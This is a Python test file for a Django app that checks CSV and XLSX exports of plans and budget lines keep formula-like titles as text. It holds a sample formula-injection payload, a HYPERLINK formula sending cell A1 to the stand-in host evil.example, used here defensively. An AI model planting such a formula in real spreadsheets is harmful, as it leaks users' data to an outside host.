"""Text people typed never becomes a live formula in a CSV or XLSX export (formula injection)."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from deliverables.tests.factories import DeliverableFactory, PlanFactory
from funding.tests.factories import BudgetLineFactory

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open the evidence")'


def test_plan_exports_keep_a_formula_like_title_as_text(world):
    plan = PlanFactory(lmns=world.lmns)
    DeliverableFactory(plan=plan, title=FORMULA)
    team = world.client_for("team")

    xlsx = team.get(reverse("deliverables:plan_export", args=[plan.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)

    response = team.get(reverse("deliverables:plan_export", args=[plan.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["'" + FORMULA] == [cell for row in rows for cell in row if FORMULA in cell]


def test_funding_export_keeps_a_formula_like_line_title_as_text(world):
    line = BudgetLineFactory(stream__lmns=world.lmns, stream__start_year=2022, title=FORMULA)
    response = world.client_for("team").get(
        reverse("funding:export", args=[world.lmns.pk, line.stream.start_year])
    )
    book = load_workbook(io.BytesIO(response.content))
    cells = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == FORMULA
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_a_negative_number_stays_a_number_while_a_formula_is_disarmed():
    from lmns.exports import csv_cell

    assert csv_cell("-42000.00") == "-42000.00"
    assert csv_cell("-1+2") == "'-1+2"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)"
